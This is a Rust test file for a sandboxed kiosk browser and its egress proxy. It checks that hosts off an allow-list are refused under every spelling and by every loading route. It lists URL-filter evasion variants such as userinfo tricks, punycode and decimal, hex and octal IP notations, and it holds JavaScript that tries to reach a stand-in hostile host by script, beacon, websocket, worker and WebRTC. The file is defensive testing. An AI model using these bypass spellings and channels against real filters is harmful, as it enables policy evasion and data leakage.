//! Rows 4 and 5: hosts off the list are not reached, in any spelling, by any route, as a page or as
//! a part of one; not one packet leaves. And the hosts of the list are, by every means a groupware
//! uses.

use crate::lure::{Lured, lured};
use crate::schemes::by_every_route;
use borne_harness::report::attempt;
use borne_harness::touch;
use borne_harness::trap::{Answer, EVIL, HOST, NEIGHBOUR};
use borne_ipc::{Role, paths};
use std::io::{Read as _, Write as _};
use std::os::unix::net::UnixStream;
use std::time::Duration;

/// Hosts off the list, and hosts of the list spelt so that they are something else.
const SPELLINGS: [&str; 19] = [
    "https://mal.example/",
    "https://MAL.example/",
    "https://mal.example./",
    "https://mal.example:8443/",
    "http://mal.example/",
    "http://piege.mairie.example/",
    "https://piege.mairie.example:8443/",
    "https://piege.mairie.example./",
    "https://piege.mairie.example@mal.example/",
    "https://piege.mairie.example.mal.example/",
    "https://sous.piege.mairie.example/",
    "https://pi\u{e8}ge.mairie.example/",
    "https://xn--pige-6oa.mairie.example/",
    "https://10.77.0.13/",
    "https://172818445/",
    "https://0x0a4d000d/",
    "https://012.0115.0.015/",
    "https://[::ffff:10.77.0.13]/",
    "https://10.77.0.12/",
];

#[test]
fn a_host_off_the_list_is_refused_in_every_spelling_by_every_route() {
    let lured = lured();
    let tried = attempt(
        4,
        "case, trailing dot, IDN, punycode, addresses in every notation, user information, port; by every route",
    );
    for url in SPELLINGS {
        let read = by_every_route(&lured, url);
        assert_eq!(read, "[]", "{url} was read");
        lured.unmoved();
    }
    // By redirect, each method of it.
    for (number, status) in [301, 302, 303, 307, 308].into_iter().enumerate() {
        let path = format!("/off-{number}");
        lured.trap.serve(
            &path,
            Answer::status(status, "").field("Location", "https://mal.example/redirected"),
        );
        lured.refuses(&format!("setTimeout(() => location = {path:?}, 0)"));
        let read = lured.page.run(&format!(
            "try {{ return 'read ' + (await fetch({path:?}, {{ mode: 'no-cors', method: 'POST', body: 'x' }})).type }} catch {{ return 'refused' }}"
        ));
        assert_eq!(read, "refused");
    }
    lured.unmoved();
    assert!(
        lured
            .trap
            .requests()
            .iter()
            .all(|request| request.host == HOST || request.host == NEIGHBOUR)
    );
    tried.held();
    lured.leave("places off the list");
}

#[test]
fn the_person_is_told_and_the_log_names_no_address() {
    let lured = lured();
    let tried = attempt(
        4,
        "what the person sees of a refused page, with and without a touch, and of a refused frame",
    );
    let notice = |lured: &Lured| touch::notice(&lured.world.terminal.look());
    assert!(notice(&lured).is_none());
    // A frame that fills itself is not worth a word.
    let frame = "const f = document.createElement('iframe'); f.src = 'https://mal.example/secret-frame'; f.style = 'width: 9px; height: 9px'; document.body.append(f);";
    lured
        .page
        .run(&format!("{frame} await fetch('/fence'); await fetch('/fence'); return 'there'"));
    assert!(notice(&lured).is_none(), "a word about a frame");
    for script in [
        "location = 'https://mal.example/secret-path?secret-query'",
        "document.body.insertAdjacentHTML('beforeend', '<form method=post action=https://mal.example/secret-path></form>'); document.forms[0].submit()",
    ] {
        lured.refuses(script);
        lured.dismiss_notice();
        lured.unmoved();
    }
    let pending =
        lured.page.on_touch("location = 'https://mal.example/secret-path'; return 'sent'");
    lured.touch(crate::lure::MIDDLE);
    pending.outcome();
    lured.dismiss_notice();
    lured.unmoved();
    let logs = lured.world.terminal.logs();
    assert!(!logs.contains("secret-"), "a log has a path");
    tried.held();
    lured.leave("a refused page");
}

/// What a part of a page is asked for by; each ends in the word "refused".
const PARTS: &str = r#"
const ends = (what, make) => new Promise(done => { const late = setTimeout(() => done(`${what}: nothing`), 5000);
    make(() => done(`${what}: LOADED`), () => { clearTimeout(late); done(`${what}: refused`); }); });
const loads = (name, fields) => (good, bad) => { const made = document.createElement(name); Object.assign(made, fields); made.onload = made.onloadeddata = good; made.onerror = bad; document.body.append(made); };
const at = path => `https://${host}/${path}`;
const asked = (path, options) => (good, bad) => fetch(at(path), options).then(good, bad);
const parts = await Promise.all([
    ends("image", loads("img", { src: at("image.png") })),
    ends("picture set", loads("img", { srcset: `${at("set.png")} 1x` })),
    ends("script", loads("script", { src: at("script.js") })),
    ends("module", loads("script", { src: at("module.js"), type: "module" })),
    ends("style sheet", loads("link", { rel: "stylesheet", href: at("sheet.css") })),
    ends("preload", loads("link", { rel: "preload", as: "image", href: at("preload.png") })),
    ends("module preload", loads("link", { rel: "modulepreload", href: at("modulepreload.js") })),
    ends("video", loads("video", { src: at("video.mp4"), preload: "auto" })),
    ends("audio", loads("audio", { src: at("audio.ogg"), preload: "auto" })),
    ends("font", (good, bad) => new FontFace("x", `url(${at("font.woff2")})`).load().then(good, bad)),
    ends("fetch", asked("fetch", { mode: "no-cors" })),
    ends("fetch kept alive", asked("kept", { mode: "no-cors", keepalive: true, method: "POST", body: "x" })),
    ends("websocket", (good, bad) => { const socket = new WebSocket(`wss://${host}/socket`); socket.onopen = good; socket.onerror = bad; }),
    ends("event source", (good, bad) => { const source = new EventSource(at("events")); source.onopen = good; source.onerror = () => { source.close(); bad(); }; }),
    ends("worker", (good, bad) => {
        const code = `fetch("${at("worker")}", { mode: "no-cors" }).then(() => postMessage("LOADED"), () => postMessage("refused"))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = event => event.data === "refused" ? bad() : good(); worker.onerror = bad;
    }),
    ends("worker's script", (good, bad) => { const code = `importScripts("${at("import.js")}"); postMessage(1)`;
        const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = good; worker.onerror = bad; }),
]);
"#;

/// What tells nobody how it ended.
const QUIET: &str = r#"
for (const [rel, href] of [["prefetch", at("prefetch")], ["dns-prefetch", `https://look-${host}`], ["preconnect", `https://connect-${host}`], ["icon", at("icon.png")], ["manifest", at("manifest.json")], ["prerender", at("prerender")]]) {
    const link = document.createElement("link"); Object.assign(link, { rel, href }); document.head.append(link);
}
try { navigator.sendBeacon?.(at("beacon"), "x"); } catch {}
document.body.insertAdjacentHTML("beforeend", `<svg><image href="${at("svg.png")}"/><use href="${at("use.svg")}#x"/></svg>
    <div style="background: url(${at("background.png")}); cursor: url(${at("cursor.png")}), auto; width: 9px; height: 9px"></div>
    <style>@import "${at("import.css")}"; @font-face { font-family: y; src: url(${at("face.woff2")}) } p { font-family: y }</style>
    <video poster="${at("poster.png")}"><track default src="${at("track.vtt")}"></video><input type=image src="${at("input.png")}">`);
try { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] }); peer.createDataChannel("x"); await peer.setLocalDescription(); } catch {}
await fetch("/fence"); await new Promise(requestAnimationFrame); await fetch("/fence");
"#;

#[test]
fn a_part_of_a_page_from_a_host_off_the_list_is_refused() {
    let lured = lured();
    let tried = attempt(
        5,
        "image, script, style, font, media, fetch, beacon, websocket, event source, worker, prefetch, preconnect, WebRTC",
    );
    let parts = lured
        .page
        .run(&format!("const host = {EVIL:?}; {PARTS} {QUIET} return parts.filter(part => !part.endsWith('refused'))"));
    assert_eq!(parts, "[]");
    lured.unmoved();
    // Positive control: the same parts of a listed host are asked for. Sound and film play nowhere
    // (`browser::features`).
    lured.page.run(&format!("const host = {NEIGHBOUR:?}; {PARTS} return parts"));
    let heard: Vec<String> =
        lured.trap.requests().into_iter().filter(|r| r.host == NEIGHBOUR).map(|r| r.path).collect();
    for path in [
        "/image.png",
        "/script.js",
        "/sheet.css",
        "/fetch",
        "/socket",
        "/events",
        "/font.woff2",
        "/worker",
    ] {
        assert!(
            heard.iter().any(|asked| asked == path),
            "{path} of a listed host was not asked for: {heard:?}"
        );
    }
    lured.unmoved();
    tried.held();
    lured.leave("parts off the list");
}

/// What the content filter lets nobody ask, asked of the proxy itself, as the browser's user.
fn proxy(lured: &Lured, authority: &str) -> String {
    connect(lured, authority).0
}

/// The status, and the tunnel if there is one.
fn connect(lured: &Lured, authority: &str) -> (String, UnixStream) {
    let socket = paths::egress_socket(&lured.world.terminal.run_dir());
    let id = Role::Browser.uid();
    let thread = std::thread::spawn(move || {
        let (uid, gid) = (rustix::process::Uid::from_raw(id), rustix::process::Gid::from_raw(id));
        rustix::thread::set_thread_groups(&[])?;
        rustix::thread::set_thread_res_gid(gid, gid, gid)?;
        rustix::thread::set_thread_res_uid(uid, uid, uid)?;
        UnixStream::connect(socket)
    });
    let mut stream = thread.join().unwrap().unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream
        .write_all(format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes())
        .unwrap();
    let mut answer = Vec::new();
    while !answer.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        stream.read_exact(&mut byte).unwrap();
        answer.push(byte[0]);
    }
    (String::from_utf8_lossy(&answer[9..12]).into_owned(), stream)
}

#[test]
fn the_proxy_refuses_what_the_engine_would_not_even_ask() {
    let lured = lured();
    let tried =
        attempt(5, "the same hosts asked of the egress proxy itself, as the browser's user");
    assert_eq!(
        proxy(&lured, "piege.mairie.example:443"),
        "200",
        "positive control: the list is open"
    );
    for authority in [
        "mal.example:443",
        "MAL.EXAMPLE:443",
        "mal.example.:443",
        "mal.example:8443",
        "piege.mairie.example:80",
        "piege.mairie.example:8443",
        "sous.piege.mairie.example:443",
        "xn--pige-6oa.mairie.example:443",
        "10.77.0.13:443",
        "172818445:443",
        "0x0a4d000d:443",
        "012.0115.0.015:443",
        "[::ffff:10.77.0.13]:443",
        "10.77.0.12:443",
        "piege.mairie.example@mal.example:443",
        "127.0.0.1:443",
        "localhost:443",
    ] {
        let status = proxy(&lured, authority);
        assert!(matches!(status.as_str(), "400" | "403"), "{authority}: {status}");
    }
    let log = lured.world.terminal.log("egress");
    assert!(log.contains("mal.example:443 is not on the list"), "{log}");
    lured.unmoved();
    tried.held();
    lured.leave("the proxy");
}

#[test]
fn listed_hosts_are_reached_by_websocket_and_by_http_2() {
    let lured = lured();
    let echoed = lured.page.run(
        "const socket = new WebSocket('wss://piege.mairie.example/socket');
         return await new Promise(done => {
             socket.onopen = () => socket.send('bonjour'); socket.onmessage = event => done(event.data); socket.onerror = () => done('error') })",
    );
    assert_eq!(echoed, "bonjour");
    // This WebKitGTK (libsoup 3.2) speaks HTTP/1.1 through any proxy; the proxy itself carries
    // HTTP/2.
    let (status, stream) = connect(&lured, "groupware.mairie.example:443");
    assert_eq!(status, "200");
    assert_eq!(negotiated(&lured, stream).as_deref(), Some("h2"));
    lured.unmoved();
    lured.leave("websocket and HTTP/2");
}

/// What the groupware's web server chooses of HTTP/2 and HTTP/1.1 (RFC 7301).
fn negotiated(lured: &Lured, stream: UnixStream) -> Option<String> {
    let authority = std::fs::read_to_string(lured.world.hall.town().variable("CA")).unwrap();
    borne_harness::trap::faces::negotiate(
        stream,
        &authority,
        "groupware.mairie.example",
        &["h2", "http/1.1"],
    )
}
